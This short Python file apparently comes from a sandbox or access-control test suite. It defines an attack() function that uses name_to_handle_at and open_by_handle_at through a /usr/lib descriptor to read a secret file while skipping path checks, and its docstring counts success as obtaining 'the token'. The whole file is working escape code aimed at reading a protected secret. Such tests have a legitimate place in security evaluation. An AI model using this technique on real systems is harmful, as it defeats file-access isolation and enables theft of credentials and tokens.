"""Open by file handle, where no path is checked. Success: the token."""

import ctypes
import os
import struct


def attack():
    libc = ctypes.CDLL(None)
    handle, mount = ctypes.create_string_buffer(136), ctypes.c_int()
    struct.pack_into("I", handle, 0, 128)
    libc.name_to_handle_at(-100, SECRET.encode(), handle, ctypes.byref(mount), 0)
    root = os.open("/usr/lib", 0)
    return os.read(libc.open_by_handle_at(root, handle, 0), 4096)
